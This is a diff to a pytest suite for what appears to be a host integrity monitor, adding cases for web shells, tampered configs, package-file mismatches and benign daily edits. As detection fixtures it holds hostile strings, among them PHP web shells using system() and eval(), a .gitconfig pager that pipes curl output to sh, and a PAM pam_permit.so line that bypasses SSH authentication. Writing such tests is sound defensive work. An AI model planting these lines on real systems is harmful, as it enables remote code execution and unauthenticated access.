@@ -37,7 +37,13 @@ ADDED = (
     ("/etc/apt/apt.conf.d/99evil", 'APT::Update::Pre-Invoke {"x";};\n', "apt_config_changed", "high"),
     ("/etc/modules-load.d/evil.conf", "evil\n", "kernel_module_config_changed", "high"),
     ("/etc/update-motd.d/00-evil", "#!/bin/sh\n", "login_script_changed", "high"),
-    ("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n", "pam_changed", "high"),
+    ("/etc/pam.d/sshd", "auth sufficient pam_permit.so\n", "pam_changed", "critical"),
+    ("/var/www/html/a/x.php", '<?php system($_GET["c"]);', "web_shell", "high"),
+    ("/home/ann/.gitconfig", "[core]\npager = curl http://x | sh\n", "tool_config_changed", "high"),
+    ("/var/lib/dpkg/info/x.postinst", "#!/bin/sh\n", "maintainer_script_changed", "high"),
+    ("/usr/lib/x86_64-linux-gnu/libx.so.1", "\x7fELF", "system_library_changed", "medium"),
+    ("/run/user/1000/systemd/transient/x.timer", "[Timer]\n", "systemd_unit_changed", "medium"),
+    ("/etc/apparmor.d/disable/x", "", "security_config_changed", "medium"),
     ("/usr/bin/evil", "\x7fELF", "system_binary_changed", "medium"),
 )
 
@@ -341,3 +347,56 @@ def test_another_change_of_a_changed_file_is_another_version(fake: FakeHost) -> 
     (two,) = fake.run(watch)
     assert one.fingerprint == two.fingerprint and one.version != two.version
     assert "two" in two.evidence["diff"]
+
+
+@pytest.mark.parametrize(
+    ("path", "text"),
+    [
+        ("/home/ann/.gitconfig", "[user]\nname = Ann\n"),
+        ("/home/ann/.ssh/config", "Host x\n  ControlPath /tmp/ssh-%r\n"),
+        ("/var/www/html/index.php", "<?php echo htmlspecialchars($_GET['page']); exec('ls');\n"),
+        ("/var/www/html/cache/a.php", "<?php return unserialize(base64_decode($cached));\n"),
+    ],
+)
+def test_what_changes_every_day_is_told_only_with_a_sign(fake: FakeHost, path: str, text: str) -> None:
+    """Neither when it is new nor when it changes or goes, and no event either."""
+    watch = fake.watch()
+    fake.run(watch)
+    file = fake.put(path, text)
+    assert fake.run(watch) == []
+    file.write_text(text + "# more\n")
+    assert fake.run(watch) == []
+    file.unlink()
+    assert fake.run(watch) == []
+    assert [event[0] for event in fake.recorded] == ["integrity_baseline"]
+
+
+def test_a_web_shell_is_found_and_its_content_not_shown(fake: FakeHost) -> None:
+    file = fake.put("/var/www/html/index.php", "<?php $password = 'Hunter2secret';\n")
+    watch = fake.watch()
+    assert fake.run(watch) == []
+    file.write_text("<?php $password = 'Hunter2secret'; eval($_POST['x']);\n")
+    (found,) = fake.run(watch)
+    assert (found.type, found.evidence["signs"]) == ("web_shell", ["it runs what a request says"])
+    assert "Hunter2secret" not in str(found)
+
+
+def test_a_library_that_is_not_its_packages_any_more(fake: FakeHost) -> None:
+    path = "/usr/lib/x86_64-linux-gnu/libc.so.6"
+    fake.package("libc6", {path: "right"})
+    file = fake.put(path, "right")
+    watch = fake.watch()
+    assert fake.run(watch) == []
+    file.write_text("wrong")
+    (found,) = fake.run(watch)
+    assert (found.type, found.severity) == ("package_file_changed", "high") and "libc6" in found.summary
+
+
+def test_homes_of_services_with_a_shell(fake: FakeHost) -> None:
+    passwd = fake.path("/etc/passwd")
+    passwd.write_text(
+        passwd.read_text()
+        + "postgres:x:101:101::/var/lib/postgresql:/bin/bash\nwww-data:x:33:33::/var/www:/usr/sbin/nologin\n"
+    )
+    assert fake.host.homes(services=True) == ["/root", "/home/ann", "/var/lib/postgresql"]
+    assert fake.host.homes() == ["/root", "/home/ann"]
